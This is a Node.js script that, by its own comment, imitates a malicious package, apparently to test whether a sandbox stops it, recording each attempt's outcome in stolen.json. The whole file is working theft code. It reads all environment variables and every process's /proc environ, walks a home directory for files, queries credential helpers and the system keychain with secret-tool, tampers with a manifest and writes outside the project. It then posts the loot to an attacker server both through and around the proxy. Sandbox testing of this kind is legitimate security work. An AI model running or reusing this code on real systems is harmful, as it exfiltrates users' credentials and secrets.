// What a malicious package tries: it takes what it can read, sends it to its own
// server in every way that it knows, and tells in stolen.json what worked.
'use strict';
const fs = require('fs');
const http = require('http');
const https = require('https');
const net = require('net');
const path = require('path');
const { spawnSync } = require('child_process');

const top = process.env.INIT_CWD || process.cwd();
// thief: URL of its server; tcp, unix, abstract: where somebody listens outside;
// state: folder of apiauth; apiauth: programs to try; bus: address of the
// keychain's bus; process: the command line of a process outside; api: an
// address that tells what it was sent.
const goal = JSON.parse(fs.readFileSync(path.join(top, 'goal.json'), 'utf8'));
const worked = {};
const loot = { env: process.env, proc: {}, files: {}, said: {} };

function read(file) {
  try {
    return fs.readFileSync(file).subarray(0, 1 << 20).toString('latin1');
  } catch {
    return '';
  }
}

function walk(dir, depth) {
  let entries = [];
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory() && depth > 0 && entry.name !== '_cacache') walk(file, depth - 1);
    else if (entry.isFile()) loot.files[file] = read(file);
  }
}

function run(name, argv, env) {
  const r = spawnSync(argv[0], argv.slice(1), { encoding: 'latin1', timeout: 20000, env: { ...process.env, ...env } });
  loot.said[name] = `${r.stdout || ''}${r.stderr || ''}${r.error || ''}`;
  worked[name] = r.status === 0 && r.stdout.trim() !== '';
}

function dial(options) {
  return new Promise((done) => {
    const socket = net.connect(options, () => {
      socket.destroy();
      done(true);
    });
    socket.on('error', () => done(false));
    socket.setTimeout(5000, () => {
      socket.destroy();
      done(false);
    });
  });
}

function call(url, options, body) {
  return new Promise((done) => {
    const request = (url.startsWith('https:') ? https : http).request(url, options, (answer) => {
      let text = '';
      answer.setEncoding('latin1');
      answer.on('data', (part) => { text += part; });
      answer.on('end', () => done({ status: answer.statusCode, text }));
    });
    request.on('error', (error) => done({ status: 0, text: String(error) }));
    request.setTimeout(10000, () => request.destroy(new Error('too slow')));
    request.end(body);
  });
}

// plainly posts without any proxy, whatever the environment says.
function plainly(url, body) {
  const to = new URL(url);
  return new Promise((done) => {
    const socket = net.connect({ host: to.hostname, port: to.port }, () => {
      socket.write(`POST /plainly HTTP/1.1\r\nHost: ${to.host}\r\nConnection: close\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`);
      socket.write(body);
    });
    let answer = '';
    socket.on('data', (part) => { answer += part; });
    socket.on('close', () => done(answer.startsWith('HTTP/1.1 200')));
    socket.on('error', () => done(false));
    socket.setTimeout(10000, () => socket.destroy());
  });
}

(async () => {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    loot.proc[pid] = [read(`/proc/${pid}/cmdline`), read(`/proc/${pid}/environ`)];
  }
  worked['see a process outside'] = Object.values(loot.proc).some(([line]) => line.includes(goal.process));
  walk(goal.home, 8);
  worked['read the state'] = fs.existsSync(path.join(goal.state, 'projects.json'));
  try {
    fs.appendFileSync(path.join(top, 'apiauth.yaml'), '\n# changed\n');
    worked['change the manifest'] = true;
  } catch {
    worked['change the manifest'] = false;
  }
  try {
    fs.writeFileSync(path.join(goal.outside, 'planted'), 'x');
    worked['write outside of the project'] = true;
  } catch {
    worked['write outside of the project'] = false;
  }

  for (const [n, program] of goal.apiauth.entries()) {
    run(`apiauth ${n}`, [program, 'token', 'sandbox'], goal.env);
  }
  if (goal.bus) {
    run('ask the keychain', ['secret-tool', 'search', '--all', 'service', goal.item], goal.env);
  }
  worked['dial tcp'] = await dial({ host: '127.0.0.1', port: goal.tcp });
  worked['dial a unix socket'] = await dial({ path: goal.unix });
  worked['dial an abstract socket'] = /abstract ok/.test(spawnSync('python3', ['-c',
    `import socket;s=socket.socket(socket.AF_UNIX);s.connect("\\x00${goal.abstract}");print("abstract ok")`], { encoding: 'latin1' }).stdout || '');

  // The placeholder, used as a token: at the API it works within the run, but
  // what comes back is the placeholder again.
  const bearer = { headers: { authorization: `Bearer ${process.env.SANDBOX_ACCESS_TOKEN}` } };
  loot.echo = await call(goal.api, bearer);
  const body = JSON.stringify({ loot, worked });
  const sent = await call(`${goal.thief}/proxied`, { method: 'POST', ...bearer }, body);
  worked['send through the proxy'] = sent.status === 200;
  worked['send around the proxy'] = await plainly(goal.thief, body);
  fs.writeFileSync(path.join(top, 'stolen.json'), JSON.stringify({ loot, worked }, null, 1));
})();
